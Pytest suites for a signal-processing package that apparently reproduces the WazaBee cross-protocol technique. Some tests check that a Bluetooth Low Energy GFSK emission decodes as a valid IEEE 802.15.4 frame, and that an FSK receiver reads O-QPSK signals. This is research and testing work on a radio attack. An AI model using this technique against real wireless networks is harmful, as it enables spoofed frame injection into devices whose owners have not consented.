        with pytest.raises(ValueError):
            gaussian_pulse(0.5, 8, 0)


class TestHalfSine:
    def test_shape(self):
        pulse = half_sine_pulse(8)
        assert pulse.size == 16
        assert pulse[0] == pytest.approx(0.0)
        assert pulse.max() == pytest.approx(1.0)

    def test_peak_at_center(self):
        pulse = half_sine_pulse(16)
        assert np.argmax(pulse) == 16  # sin(pi/2) at t = Tc

    def test_validation(self):
        with pytest.raises(ValueError):
            half_sine_pulse(0)


class TestRectangular:
    def test_all_ones(self):
        assert np.all(rectangular_pulse(5) == 1.0)

    def test_validation(self):
        with pytest.raises(ValueError):
            rectangular_pulse(0)


class TestFirLowpass:
    def test_passband_and_stopband(self):
        fs = 16e6
        taps = fir_lowpass(1.3e6, fs, num_taps=65)
        n = np.arange(4096)
        inband = np.cos(2 * np.pi * 0.5e6 * n / fs)
        outband = np.cos(2 * np.pi * 5e6 * n / fs)
        inband_out = apply_filter(taps, inband)
        outband_out = apply_filter(taps, outband)
        assert np.std(inband_out[100:-100]) > 0.6 * np.std(inband)
        assert np.std(outband_out[100:-100]) < 0.05 * np.std(outband)

    def test_group_delay_compensation(self):
        """apply_filter must keep the output aligned with the input."""
        fs = 16e6
        taps = fir_lowpass(2e6, fs, num_taps=49)
        impulse = np.zeros(201)
        impulse[100] = 1.0
        out = apply_filter(taps, impulse)
        assert np.argmax(np.abs(out)) == 100

    def test_output_length_matches_input(self):
        taps = fir_lowpass(1e6, 16e6, 33)
        x = np.random.default_rng(0).standard_normal(500)
        assert apply_filter(taps, x).size == x.size

    def test_validation(self):
        with pytest.raises(ValueError):
            fir_lowpass(0, 16e6)
        with pytest.raises(ValueError):
            fir_lowpass(9e6, 16e6)  # above Nyquist
        with pytest.raises(ValueError):
            fir_lowpass(1e6, 16e6, num_taps=2)
