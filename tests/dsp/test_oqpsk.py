"""Tests for the O-QPSK half-sine modem (802.15.4 waveform)."""

import numpy as np
import pytest

from repro.dsp.impairments import apply_frequency_offset, awgn
from repro.dsp.msk import chips_to_transitions
from repro.dsp.oqpsk import OqpskDemodulator, OqpskModulator
from repro.phy.ieee802154 import PN_SEQUENCES

SYNC = np.concatenate([PN_SEQUENCES[0], PN_SEQUENCES[0]])


class TestModulator:
    def test_validation(self):
        with pytest.raises(ValueError):
            OqpskModulator(samples_per_chip=1)
        with pytest.raises(ValueError):
            OqpskModulator(chip_rate=0)

    def test_constant_envelope_interior(self):
        mod = OqpskModulator(samples_per_chip=8)
        sig = mod.modulate(np.tile([1, 0, 0, 1, 1, 1, 0, 1], 8))
        env = np.abs(sig.samples[16:-16])
        assert np.allclose(env, 1.0, atol=1e-9)

    def test_pulse_trains_alternate_channels(self):
        mod = OqpskModulator(samples_per_chip=8)
        i_wave, q_wave = mod.pulse_trains([1, 0])
        # Chip 0 (even) drives I: positive half-sine starting at 0.
        assert i_wave[:16].max() > 0.9
        # Chip 1 (odd) drives Q: negative half-sine delayed by Tc.
        assert q_wave[:8].max() == pytest.approx(0.0)
        assert q_wave[8:24].min() < -0.9

    def test_sample_rate(self):
        mod = OqpskModulator(samples_per_chip=8, chip_rate=2e6)
        assert mod.modulate([1, 0]).sample_rate == 16e6

    def test_pi_over_2_rotation_per_chip(self):
        mod = OqpskModulator(samples_per_chip=16)
        rng = np.random.default_rng(3)
        chips = rng.integers(0, 2, 32).astype(np.uint8)
        sig = mod.modulate(chips)
        phase = sig.instantaneous_phase()
        spc = 16
        steps = np.diff(phase[spc::spc])[: len(chips) - 2]
        assert np.allclose(np.abs(steps), np.pi / 2, atol=1e-2)


class TestDemodulator:
    def _roundtrip(self, chips, impair=None, rng=None):
        mod = OqpskModulator(samples_per_chip=8)
        dem = OqpskDemodulator(samples_per_chip=8)
        stream = np.concatenate([SYNC, chips])
        sig = mod.modulate(stream)
        if impair is not None:
            sig = impair(sig)
        return dem.receive_chips(
            sig, SYNC, sync_start_index=0, max_chips=chips.size
        )

    def test_clean_roundtrip(self, rng):
        chips = rng.integers(0, 2, 256).astype(np.uint8)
        result = self._roundtrip(chips)
        assert result is not None
        decoded, info = result
        assert np.array_equal(decoded, chips)
        assert info.chip_index == SYNC.size

    def test_noisy_roundtrip(self, rng):
        chips = rng.integers(0, 2, 256).astype(np.uint8)
        result = self._roundtrip(chips, impair=lambda s: awgn(s, 12.0, rng))
        assert result is not None
        decoded, _ = result
        errors = np.count_nonzero(decoded != chips)
        assert errors < 10

    def test_cfo_roundtrip(self, rng):
        chips = rng.integers(0, 2, 128).astype(np.uint8)
        result = self._roundtrip(
            chips, impair=lambda s: apply_frequency_offset(s, 40e3)
        )
        assert result is not None
        assert np.array_equal(result[0], chips)

    def test_missing_sync_returns_none(self, rng):
        mod = OqpskModulator(samples_per_chip=8)
        dem = OqpskDemodulator(samples_per_chip=8)
        sig = mod.modulate(rng.integers(0, 2, 64).astype(np.uint8))
        assert (
            dem.receive_chips(sig, SYNC, sync_start_index=0, max_chips=64)
            is None
        )

    def test_short_sync_rejected(self):
        dem = OqpskDemodulator(samples_per_chip=8)
        mod = OqpskModulator(samples_per_chip=8)
        sig = mod.modulate([1, 0, 1, 0])
        with pytest.raises(ValueError):
            dem.receive_chips(sig, [1, 0], 0, 16)

    def test_max_chips_limits_output(self, rng):
        chips = rng.integers(0, 2, 128).astype(np.uint8)
        mod = OqpskModulator(samples_per_chip=8)
        dem = OqpskDemodulator(samples_per_chip=8)
        sig = mod.modulate(np.concatenate([SYNC, chips]))
        result = dem.receive_chips(sig, SYNC, 0, max_chips=32)
        assert result is not None
        assert result[0].size == 32
        assert np.array_equal(result[0], chips[:32])

    def test_cross_demodulation_by_gfsk_receiver(self, rng):
        """The WazaBee RX path: an O-QPSK signal read by an FSK slicer."""
        from repro.dsp.gfsk import FskDemodulator, GfskConfig

        chips = rng.integers(0, 2, 96).astype(np.uint8)
        stream = np.concatenate([SYNC, chips])
        sig = OqpskModulator(samples_per_chip=8).modulate(stream)
        fsk = FskDemodulator(GfskConfig(8, 0.5, None), 2e6)
        template = chips_to_transitions(SYNC)
        disc = fsk.discriminate(sig)
        sync = fsk.find_sync(disc, template, threshold=0.5)
        assert sync is not None
        expected = chips_to_transitions(stream)[template.size :]
        bits = fsk.decide_bits(
            disc, sync.start + template.size * 8, chips.size
        )
        assert np.array_equal(bits, expected[: bits.size])


def _pulse_trains_scalar(mod, chips):
    """The pre-vectorisation per-chip loop, kept as the reference."""
    from repro.utils.bits import as_bit_array

    arr = as_bit_array(chips)
    spc = mod.samples_per_chip
    nrz = arr.astype(np.float64) * 2.0 - 1.0
    length = arr.size * spc + len(mod._pulse) - 1
    i_wave = np.zeros(length)
    q_wave = np.zeros(length)
    for idx, level in enumerate(nrz):
        start = idx * spc
        target = i_wave if idx % 2 == 0 else q_wave
        target[start : start + len(mod._pulse)] += level * mod._pulse
    return i_wave, q_wave


class TestVectorisedPulseTrains:
    """The outer-product rail construction must be bit-exact vs the loop."""

    @pytest.mark.parametrize("spc", [2, 4, 8])
    @pytest.mark.parametrize("count", [0, 1, 2, 7, 64, 255])
    def test_matches_scalar_reference(self, spc, count):
        rng = np.random.default_rng(spc * 1000 + count)
        mod = OqpskModulator(samples_per_chip=spc)
        chips = rng.integers(0, 2, count).astype(np.uint8)
        i_ref, q_ref = _pulse_trains_scalar(mod, chips)
        i_fast, q_fast = mod.pulse_trains(chips)
        assert np.array_equal(i_ref, i_fast)
        assert np.array_equal(q_ref, q_fast)


class TestFrontEndReuse:
    """A precomputed front end must decode identically to the default."""

    def test_receive_chips_with_shared_front_end(self):
        rng = np.random.default_rng(3)
        mod = OqpskModulator(samples_per_chip=8)
        dem = OqpskDemodulator(samples_per_chip=8)
        payload = rng.integers(0, 2, 128).astype(np.uint8)
        stream = np.concatenate([SYNC, payload])
        sig = awgn(mod.modulate(stream), snr_db=15.0, rng=rng)
        baseline = dem.receive_chips(
            sig, SYNC, sync_start_index=32, max_chips=payload.size
        )
        front_end = dem.front_end(sig)
        shared_a = dem.receive_chips(
            sig, SYNC, sync_start_index=32, max_chips=payload.size,
            front_end=front_end,
        )
        shared_b = dem.receive_chips(
            sig, SYNC, sync_start_index=32, max_chips=payload.size,
            front_end=front_end,
        )
        assert baseline is not None and shared_a is not None
        assert np.array_equal(baseline[0], shared_a[0])
        assert np.array_equal(shared_a[0], shared_b[0])
        assert baseline[1].sync.start == shared_a[1].sync.start
