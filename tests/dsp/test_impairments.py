"""Tests for channel impairments."""

import numpy as np
import pytest

from repro.dsp.impairments import (
    apply_frequency_offset,
    apply_phase_offset,
    apply_timing_offset,
    awgn,
    noise_floor,
)
from repro.dsp.signal import IQSignal


def tone(n=4000, fs=16e6):
    t = np.arange(n) / fs
    return IQSignal(np.exp(2j * np.pi * 1e6 * t), fs)


class TestAwgn:
    def test_snr_calibration(self, rng):
        sig = awgn(tone(), 10.0, rng)
        noise_power = np.mean(np.abs(sig.samples - tone().samples) ** 2)
        assert 10 * np.log10(1.0 / noise_power) == pytest.approx(10.0, abs=0.5)

    def test_zero_signal_untouched(self, rng):
        silent = IQSignal.silence(100, 16e6)
        out = awgn(silent, 10.0, rng)
        assert out.power() == 0.0

    def test_reproducible_with_seed(self):
        a = awgn(tone(), 10.0, np.random.default_rng(5))
        b = awgn(tone(), 10.0, np.random.default_rng(5))
        assert np.array_equal(a.samples, b.samples)


class TestNoiseFloor:
    def test_power_level(self, rng):
        sig = noise_floor(50_000, 16e6, power=1e-6, rng=rng)
        assert sig.power() == pytest.approx(1e-6, rel=0.05)

    def test_center_frequency_kept(self, rng):
        sig = noise_floor(100, 16e6, 1e-9, rng, center_frequency=2.44e9)
        assert sig.center_frequency == 2.44e9


class TestOffsets:
    def test_frequency_offset_shifts_tone(self):
        sig = apply_frequency_offset(tone(), 0.5e6)
        freq = np.median(sig.instantaneous_frequency())
        assert freq == pytest.approx(1.5e6, rel=1e-3)

    def test_zero_frequency_offset_identity(self):
        sig = tone()
        assert np.array_equal(apply_frequency_offset(sig, 0.0).samples, sig.samples)

    def test_phase_offset(self):
        sig = apply_phase_offset(tone(), np.pi / 2)
        assert np.angle(sig.samples[0]) == pytest.approx(np.pi / 2, abs=1e-6)

    def test_zero_phase_offset_identity(self):
        sig = tone()
        assert np.array_equal(apply_phase_offset(sig, 0.0).samples, sig.samples)

    def test_timing_offset_delays(self):
        sig = apply_timing_offset(tone(100), 10)
        assert len(sig) == 110
        assert np.all(sig.samples[:10] == 0)
