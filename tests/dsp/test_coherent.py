"""Tests for the noncoherent correlator-bank O-QPSK receiver."""

import numpy as np
import pytest

from repro.core.encoding import frame_to_msk_bits
from repro.dot15d4.frames import Address, build_data
from repro.dsp.coherent import CorrelatorBank
from repro.dsp.gfsk import FskModulator, GfskConfig
from repro.dsp.impairments import apply_phase_offset, awgn
from repro.dsp.oqpsk import OqpskModulator
from repro.dsp.signal import IQSignal
from repro.phy.ieee802154 import Ppdu


@pytest.fixture(scope="module")
def bank():
    return CorrelatorBank(samples_per_chip=8)


def make_frame():
    frame = build_data(
        Address(pan_id=1, address=1),
        Address(pan_id=1, address=2),
        b"corr",
        sequence_number=1,
    )
    return Ppdu(frame.to_bytes())


def decode_ok(bank, sig, ppdu):
    start = bank.acquire(sig)
    if start is None:
        return False
    decoded = bank.decode(sig, start, max_symbols=ppdu.num_symbols)
    sfd = Ppdu.find_sfd(decoded.symbols)
    if sfd is None:
        return False
    parsed = Ppdu.parse_symbols(decoded.symbols[sfd:])
    return parsed is not None and parsed.psdu == ppdu.psdu


class TestReferences:
    def test_shapes(self, bank):
        assert bank._references.shape == (2, 16, 32 * 8)

    def test_references_unit_modulus_interior(self, bank):
        interior = bank._references[0, 0][8:-8]
        assert np.allclose(np.abs(interior), 1.0, atol=1e-9)

    def test_previous_chip_matters(self, bank):
        a = bank._references[0, 3]
        b = bank._references[1, 3]
        assert not np.allclose(a, b)


class TestNativeDecode:
    def test_clean(self, bank):
        ppdu = make_frame()
        sig = OqpskModulator(8).modulate(ppdu.to_chips())
        assert decode_ok(bank, sig, ppdu)

    def test_noisy(self, bank, rng):
        ppdu = make_frame()
        sig = awgn(OqpskModulator(8).modulate(ppdu.to_chips()), 2.0, rng)
        assert decode_ok(bank, sig, ppdu)

    def test_noncoherent_to_phase(self, bank):
        ppdu = make_frame()
        sig = apply_phase_offset(
            OqpskModulator(8).modulate(ppdu.to_chips()), 1.234
        )
        assert decode_ok(bank, sig, ppdu)

    def test_acquire_rejects_noise(self, bank, rng):
        noise = IQSignal(
            0.01 * (rng.standard_normal(4096) + 1j * rng.standard_normal(4096)),
            16e6,
        )
        assert bank.acquire(noise) is None

    def test_acquire_rejects_short_capture(self, bank):
        assert bank.acquire(IQSignal(np.ones(100), 16e6)) is None

    def test_sample_rate_checked(self, bank):
        with pytest.raises(ValueError):
            bank.acquire(IQSignal(np.ones(4096), 8e6))


class TestWazaBeeDecode:
    def test_accepts_gfsk_emission(self, bank):
        """The architecture ablation: a matched-filter receiver accepts the
        diverted BLE waveform too."""
        ppdu = make_frame()
        bits = frame_to_msk_bits(ppdu.psdu)
        sig = FskModulator(GfskConfig(8, 0.5, 0.5), 2e6).modulate(bits)
        assert decode_ok(bank, sig, ppdu)

    def test_accepts_gfsk_emission_in_noise(self, bank, rng):
        ppdu = make_frame()
        bits = frame_to_msk_bits(ppdu.psdu)
        sig = awgn(FskModulator(GfskConfig(8, 0.5, 0.5), 2e6).modulate(bits), 3.0, rng)
        assert decode_ok(bank, sig, ppdu)

    def test_truncated_capture_partial_decode(self, bank):
        ppdu = make_frame()
        sig = OqpskModulator(8).modulate(ppdu.to_chips())
        start = bank.acquire(sig)
        decoded = bank.decode(sig, start, max_symbols=5)
        assert len(decoded.symbols) == 5
        assert decoded.symbols == [0, 0, 0, 0, 0]
