"""Tests for the GFSK/MSK modem."""

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from repro.dsp.gfsk import FskDemodulator, FskModulator, GfskConfig
from repro.dsp.impairments import apply_frequency_offset, awgn


def make_modem(bt=0.5, h=0.5, sps=8, rate=2e6):
    mod = FskModulator(GfskConfig(sps, h, bt), rate)
    dem = FskDemodulator(GfskConfig(sps, h, None), rate)
    return mod, dem


SYNC = np.array([0, 1, 0, 0, 1, 1, 0, 1] * 4, dtype=np.uint8)


class TestConfig:
    def test_validation(self):
        with pytest.raises(ValueError):
            GfskConfig(samples_per_symbol=1)
        with pytest.raises(ValueError):
            GfskConfig(modulation_index=5.0)
        with pytest.raises(ValueError):
            GfskConfig(bt=-1.0)

    def test_symbol_rate_validation(self):
        with pytest.raises(ValueError):
            FskModulator(GfskConfig(), 0.0)
        with pytest.raises(ValueError):
            FskDemodulator(GfskConfig(), -1.0)


class TestModulator:
    def test_constant_envelope(self):
        mod, _ = make_modem()
        sig = mod.modulate([1, 0, 1, 1, 0, 0, 1, 0] * 4)
        env = np.abs(sig.samples)
        assert np.allclose(env, 1.0)

    def test_deviation(self):
        mod, _ = make_modem(h=0.5, rate=2e6)
        assert mod.frequency_deviation == pytest.approx(500e3)

    def test_msk_phase_advance_per_symbol(self):
        """Unfiltered h=0.5 must advance the phase by exactly ±π/2/symbol."""
        mod, _ = make_modem(bt=None)
        sig = mod.modulate([1, 1, 0, 1])
        phase = sig.instantaneous_phase()
        sps = 8
        steps = np.diff(phase[sps - 1 :: sps])[:3]
        assert np.allclose(np.abs(steps), np.pi / 2, atol=1e-6)
        # steps cover bits 1,0,1 of the sequence [1,1,0,1]
        assert steps[0] > 0 and steps[1] < 0 and steps[2] > 0

    def test_gaussian_total_phase_preserved(self):
        """The Gaussian filter smears but does not change total phase."""
        bits = [1] * 8
        mod_g, _ = make_modem(bt=0.5)
        mod_m, _ = make_modem(bt=None)
        pg = mod_g.modulate(bits).instantaneous_phase()[-1]
        pm = mod_m.modulate(bits).instantaneous_phase()[-1]
        assert pg == pytest.approx(pm, abs=1e-3)

    def test_frequency_waveform_sign(self):
        mod, _ = make_modem(bt=None)
        wave = mod.frequency_waveform([1, 0])
        assert wave[:8].mean() > 0
        assert wave[8:16].mean() < 0

    def test_sample_rate(self):
        mod, _ = make_modem(sps=8, rate=2e6)
        assert mod.modulate([1, 0]).sample_rate == 16e6

    def test_group_delay_nonzero_with_filter(self):
        mod, _ = make_modem(bt=0.5)
        assert mod.group_delay_samples() > 0


class TestDemodulator:
    def test_clean_roundtrip(self, rng):
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 200).astype(np.uint8)
        bits = np.concatenate([SYNC, payload])
        sig = mod.modulate(bits)
        result = dem.demodulate_packet(sig, SYNC, payload.size)
        assert result is not None
        decoded, sync = result
        assert np.array_equal(decoded, payload)
        assert sync.score > 0.8

    def test_roundtrip_with_noise(self, rng):
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 200).astype(np.uint8)
        sig = awgn(mod.modulate(np.concatenate([SYNC, payload])), 15.0, rng)
        result = dem.demodulate_packet(sig, SYNC, payload.size)
        assert result is not None
        decoded, _ = result
        errors = np.count_nonzero(decoded != payload)
        assert errors <= 2

    def test_roundtrip_with_cfo(self, rng):
        """A 50 kHz offset (10% of deviation) must be absorbed."""
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 200).astype(np.uint8)
        sig = apply_frequency_offset(
            mod.modulate(np.concatenate([SYNC, payload])), 50e3
        )
        result = dem.demodulate_packet(sig, SYNC, payload.size)
        assert result is not None
        decoded, sync = result
        assert np.array_equal(decoded, payload)
        assert sync.dc_offset == pytest.approx(50e3, rel=0.3)

    def test_no_sync_in_noise(self, rng):
        _, dem = make_modem()
        from repro.dsp.signal import IQSignal

        noise = IQSignal(
            0.01 * (rng.standard_normal(4000) + 1j * rng.standard_normal(4000)),
            16e6,
        )
        assert dem.demodulate_packet(noise, SYNC, 100) is None

    def test_sync_not_found_below_threshold(self, rng):
        mod, dem = make_modem()
        other_sync = SYNC ^ 1
        payload = rng.integers(0, 2, 64).astype(np.uint8)
        sig = mod.modulate(np.concatenate([other_sync, payload]))
        disc = dem.discriminate(sig)
        assert dem.find_sync(disc, SYNC, threshold=0.8) is None

    def test_truncated_capture_returns_available_bits(self, rng):
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 50).astype(np.uint8)
        sig = mod.modulate(np.concatenate([SYNC, payload]))
        result = dem.demodulate_packet(sig, SYNC, 500)
        assert result is not None
        decoded, _ = result
        assert decoded.size <= 500
        assert np.array_equal(decoded[: payload.size], payload)

    def test_discriminate_rejects_rate_mismatch(self):
        _, dem = make_modem()
        from repro.dsp.signal import IQSignal

        with pytest.raises(ValueError):
            dem.discriminate(IQSignal(np.ones(16), 8e6))

    def test_discriminator_clipping(self, rng):
        _, dem = make_modem()
        from repro.dsp.signal import IQSignal

        noise = IQSignal(
            rng.standard_normal(1000) + 1j * rng.standard_normal(1000), 16e6
        )
        disc = dem.discriminate(noise)
        assert np.abs(disc).max() <= dem.CLIP_LEVEL + 1e-9

    def test_search_start_skips_early_match(self, rng):
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 64).astype(np.uint8)
        bits = np.concatenate([SYNC, payload, SYNC, payload])
        sig = mod.modulate(bits)
        disc = dem.discriminate(sig)
        first = dem.find_sync(disc, SYNC)
        later = dem.find_sync(disc, SYNC, search_start=first.start + 8)
        assert later.start > first.start

    def test_soft_symbols_bounds_checked(self):
        _, dem = make_modem()
        with pytest.raises(ValueError):
            dem.soft_symbols(np.zeros(10), start=0, num_symbols=5)

    def test_constant_sync_rejected(self):
        _, dem = make_modem()
        with pytest.raises(ValueError):
            dem.find_sync(np.zeros(100), np.ones(8, dtype=np.uint8))


class TestProperties:
    @settings(max_examples=20, deadline=None)
    @given(st.lists(st.integers(0, 1), min_size=32, max_size=128))
    def test_any_payload_roundtrips_cleanly(self, payload):
        mod, dem = make_modem()
        payload = np.array(payload, dtype=np.uint8)
        sig = mod.modulate(np.concatenate([SYNC, payload]))
        result = dem.demodulate_packet(sig, SYNC, payload.size)
        assert result is not None
        assert np.array_equal(result[0], payload)
