"""Tests for the GFSK/MSK modem."""

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from repro.dsp.gfsk import (
    FskDemodulator,
    FskModulator,
    GfskConfig,
    WaveformCache,
    _correlate_valid,
    clear_waveform_caches,
    lazy_capture_power,
    waveform_cache,
)
from repro.dsp.impairments import apply_frequency_offset, awgn
from repro.dsp.signal import IQSignal


def make_modem(bt=0.5, h=0.5, sps=8, rate=2e6):
    mod = FskModulator(GfskConfig(sps, h, bt), rate)
    dem = FskDemodulator(GfskConfig(sps, h, None), rate)
    return mod, dem


SYNC = np.array([0, 1, 0, 0, 1, 1, 0, 1] * 4, dtype=np.uint8)


class TestConfig:
    def test_validation(self):
        with pytest.raises(ValueError):
            GfskConfig(samples_per_symbol=1)
        with pytest.raises(ValueError):
            GfskConfig(modulation_index=5.0)
        with pytest.raises(ValueError):
            GfskConfig(bt=-1.0)

    def test_symbol_rate_validation(self):
        with pytest.raises(ValueError):
            FskModulator(GfskConfig(), 0.0)
        with pytest.raises(ValueError):
            FskDemodulator(GfskConfig(), -1.0)


class TestModulator:
    def test_constant_envelope(self):
        mod, _ = make_modem()
        sig = mod.modulate([1, 0, 1, 1, 0, 0, 1, 0] * 4)
        env = np.abs(sig.samples)
        assert np.allclose(env, 1.0)

    def test_deviation(self):
        mod, _ = make_modem(h=0.5, rate=2e6)
        assert mod.frequency_deviation == pytest.approx(500e3)

    def test_msk_phase_advance_per_symbol(self):
        """Unfiltered h=0.5 must advance the phase by exactly ±π/2/symbol."""
        mod, _ = make_modem(bt=None)
        sig = mod.modulate([1, 1, 0, 1])
        phase = sig.instantaneous_phase()
        sps = 8
        steps = np.diff(phase[sps - 1 :: sps])[:3]
        assert np.allclose(np.abs(steps), np.pi / 2, atol=1e-6)
        # steps cover bits 1,0,1 of the sequence [1,1,0,1]
        assert steps[0] > 0 and steps[1] < 0 and steps[2] > 0

    def test_gaussian_total_phase_preserved(self):
        """The Gaussian filter smears but does not change total phase."""
        bits = [1] * 8
        mod_g, _ = make_modem(bt=0.5)
        mod_m, _ = make_modem(bt=None)
        pg = mod_g.modulate(bits).instantaneous_phase()[-1]
        pm = mod_m.modulate(bits).instantaneous_phase()[-1]
        assert pg == pytest.approx(pm, abs=1e-3)

    def test_frequency_waveform_sign(self):
        mod, _ = make_modem(bt=None)
        wave = mod.frequency_waveform([1, 0])
        assert wave[:8].mean() > 0
        assert wave[8:16].mean() < 0

    def test_sample_rate(self):
        mod, _ = make_modem(sps=8, rate=2e6)
        assert mod.modulate([1, 0]).sample_rate == 16e6

    def test_group_delay_nonzero_with_filter(self):
        mod, _ = make_modem(bt=0.5)
        assert mod.group_delay_samples() > 0


class TestDemodulator:
    def test_clean_roundtrip(self, rng):
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 200).astype(np.uint8)
        bits = np.concatenate([SYNC, payload])
        sig = mod.modulate(bits)
        result = dem.demodulate_packet(sig, SYNC, payload.size)
        assert result is not None
        decoded, sync = result
        assert np.array_equal(decoded, payload)
        assert sync.score > 0.8

    def test_roundtrip_with_noise(self, rng):
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 200).astype(np.uint8)
        sig = awgn(mod.modulate(np.concatenate([SYNC, payload])), 15.0, rng)
        result = dem.demodulate_packet(sig, SYNC, payload.size)
        assert result is not None
        decoded, _ = result
        errors = np.count_nonzero(decoded != payload)
        assert errors <= 2

    def test_roundtrip_with_cfo(self, rng):
        """A 50 kHz offset (10% of deviation) must be absorbed."""
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 200).astype(np.uint8)
        sig = apply_frequency_offset(
            mod.modulate(np.concatenate([SYNC, payload])), 50e3
        )
        result = dem.demodulate_packet(sig, SYNC, payload.size)
        assert result is not None
        decoded, sync = result
        assert np.array_equal(decoded, payload)
        assert sync.dc_offset == pytest.approx(50e3, rel=0.3)

    def test_no_sync_in_noise(self, rng):
        _, dem = make_modem()
        from repro.dsp.signal import IQSignal

        noise = IQSignal(
            0.01 * (rng.standard_normal(4000) + 1j * rng.standard_normal(4000)),
            16e6,
        )
        assert dem.demodulate_packet(noise, SYNC, 100) is None

    def test_sync_not_found_below_threshold(self, rng):
        mod, dem = make_modem()
        other_sync = SYNC ^ 1
        payload = rng.integers(0, 2, 64).astype(np.uint8)
        sig = mod.modulate(np.concatenate([other_sync, payload]))
        disc = dem.discriminate(sig)
        assert dem.find_sync(disc, SYNC, threshold=0.8) is None

    def test_truncated_capture_returns_available_bits(self, rng):
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 50).astype(np.uint8)
        sig = mod.modulate(np.concatenate([SYNC, payload]))
        result = dem.demodulate_packet(sig, SYNC, 500)
        assert result is not None
        decoded, _ = result
        assert decoded.size <= 500
        assert np.array_equal(decoded[: payload.size], payload)

    def test_discriminate_rejects_rate_mismatch(self):
        _, dem = make_modem()
        from repro.dsp.signal import IQSignal

        with pytest.raises(ValueError):
            dem.discriminate(IQSignal(np.ones(16), 8e6))

    def test_discriminator_clipping(self, rng):
        _, dem = make_modem()
        from repro.dsp.signal import IQSignal

        noise = IQSignal(
            rng.standard_normal(1000) + 1j * rng.standard_normal(1000), 16e6
        )
        disc = dem.discriminate(noise)
        assert np.abs(disc).max() <= dem.CLIP_LEVEL + 1e-9

    def test_search_start_skips_early_match(self, rng):
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 64).astype(np.uint8)
        bits = np.concatenate([SYNC, payload, SYNC, payload])
        sig = mod.modulate(bits)
        disc = dem.discriminate(sig)
        first = dem.find_sync(disc, SYNC)
        later = dem.find_sync(disc, SYNC, search_start=first.start + 8)
        assert later.start > first.start

    def test_soft_symbols_bounds_checked(self):
        _, dem = make_modem()
        with pytest.raises(ValueError):
            dem.soft_symbols(np.zeros(10), start=0, num_symbols=5)

    def test_constant_sync_rejected(self):
        _, dem = make_modem()
        with pytest.raises(ValueError):
            dem.find_sync(np.zeros(100), np.ones(8, dtype=np.uint8))


class TestProperties:
    @settings(max_examples=20, deadline=None)
    @given(st.lists(st.integers(0, 1), min_size=32, max_size=128))
    def test_any_payload_roundtrips_cleanly(self, payload):
        mod, dem = make_modem()
        payload = np.array(payload, dtype=np.uint8)
        sig = mod.modulate(np.concatenate([SYNC, payload]))
        result = dem.demodulate_packet(sig, SYNC, payload.size)
        assert result is not None
        assert np.array_equal(result[0], payload)


class TestWaveformCache:
    """The phase-stitched fast path must be indistinguishable from the
    direct convolve→cumsum→exp synthesis."""

    @settings(max_examples=30, deadline=None)
    @given(
        bits=st.lists(st.integers(0, 1), min_size=4, max_size=96),
        phase=st.floats(-np.pi, np.pi, allow_nan=False),
    )
    def test_matches_direct_modulator(self, bits, phase):
        config = GfskConfig(samples_per_symbol=8, modulation_index=0.5, bt=0.5)
        cache = WaveformCache(config, 2e6)
        direct = FskModulator(config, 2e6, use_cache=False)
        bits = np.array(bits, dtype=np.uint8)
        fast = cache.synthesize(bits, initial_phase=phase)
        ref = direct.modulate_direct(bits, initial_phase=phase).samples
        assert fast.shape == ref.shape
        assert np.max(np.abs(fast - ref)) <= 1e-9

    @pytest.mark.parametrize("sps,bt,span", [(4, 0.5, 3), (8, 0.3, 4), (8, None, 3), (10, 0.5, 2)])
    def test_matches_direct_across_configs(self, sps, bt, span):
        rng = np.random.default_rng(5)
        config = GfskConfig(
            samples_per_symbol=sps, modulation_index=0.5, bt=bt, span_symbols=span
        )
        cache = WaveformCache(config, 1e6)
        direct = FskModulator(config, 1e6, use_cache=False)
        bits = rng.integers(0, 2, 257).astype(np.uint8)
        fast = cache.synthesize(bits, initial_phase=0.7)
        ref = direct.modulate_direct(bits, initial_phase=0.7).samples
        assert np.max(np.abs(fast - ref)) <= 1e-9

    def test_minimum_length_enforced(self):
        config = GfskConfig(samples_per_symbol=8, modulation_index=0.5, bt=0.5)
        cache = WaveformCache(config, 2e6)
        with pytest.raises(ValueError):
            cache.synthesize(np.ones(cache.span - 1, dtype=np.uint8))

    def test_modulate_falls_back_below_span(self):
        """Streams shorter than the pulse span use the direct path."""
        mod, _ = make_modem()
        short = np.array([1, 0], dtype=np.uint8)
        via_modulate = mod.modulate(short).samples
        via_direct = mod.modulate_direct(short).samples
        assert np.array_equal(via_modulate, via_direct)

    def test_shared_registry_returns_same_instance(self):
        clear_waveform_caches()
        config = GfskConfig(samples_per_symbol=8, modulation_index=0.5, bt=0.5)
        a = waveform_cache(config, 2e6)
        b = waveform_cache(config, 2e6)
        assert a is b
        clear_waveform_caches()
        assert waveform_cache(config, 2e6) is not a

    def test_warm_attaches_cache(self):
        mod, _ = make_modem()
        cache = mod.warm()
        assert cache is not None
        assert mod.warm() is cache
        no_cache = FskModulator(
            GfskConfig(samples_per_symbol=8, modulation_index=0.5, bt=0.5),
            2e6,
            use_cache=False,
        )
        assert no_cache.warm() is None


class TestFftSyncEquivalence:
    """FFT and time-domain correlators must lock identically."""

    def test_correlators_agree_numerically(self, rng):
        haystack = rng.standard_normal(5000)
        template = rng.standard_normal(64)
        direct = _correlate_valid(haystack, template, force="direct")
        fft = _correlate_valid(haystack, template, force="fft")
        assert direct.shape == fft.shape
        assert np.max(np.abs(direct - fft)) < 1e-9

    def test_find_sync_identical_under_noise_and_offset(self, rng):
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 96).astype(np.uint8)
        sig = mod.modulate(np.concatenate([SYNC, payload]))
        sig = apply_frequency_offset(sig, 40e3)
        sig = awgn(sig, snr_db=12.0, rng=rng)
        disc = dem.discriminate(sig)
        power = np.abs(sig.samples[:-1]) ** 2
        direct = dem.find_sync(disc, SYNC, power=power, correlator="direct")
        fft = dem.find_sync(disc, SYNC, power=power, correlator="fft")
        assert direct is not None and fft is not None
        assert direct.start == fft.start
        assert fft.score == pytest.approx(direct.score, abs=1e-9)
